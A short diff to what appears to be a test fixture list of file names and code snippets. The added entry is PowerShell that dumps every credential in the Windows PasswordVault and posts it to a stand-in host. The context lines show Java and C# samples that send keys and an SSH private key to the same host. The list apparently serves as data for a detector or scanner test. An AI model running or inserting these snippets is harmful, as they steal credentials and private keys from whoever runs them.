@@ -97,6 +97,11 @@ TAKEN = [
         'HttpClient.newHttpClient().send(HttpRequest.newBuilder(URI.create("https://c.invalid")).POST(of(k)).build(), none());',
     ),
     (
+        "a.ps1",
+        "$v = New-Object Windows.Security.Credentials.PasswordVault\n$d = $v.RetrieveAll() | ConvertTo-Json\n"
+        "Invoke-WebRequest -Uri https://c.invalid -Method POST -Body $d",
+    ),
+    (
         "a.csx",
         'var p = Path.Combine(home, ".ssh", "id_rsa");\nnew HttpClient().PostAsync("https://c.invalid", new StringContent(File.ReadAllText(p))).Wait();',
     ),
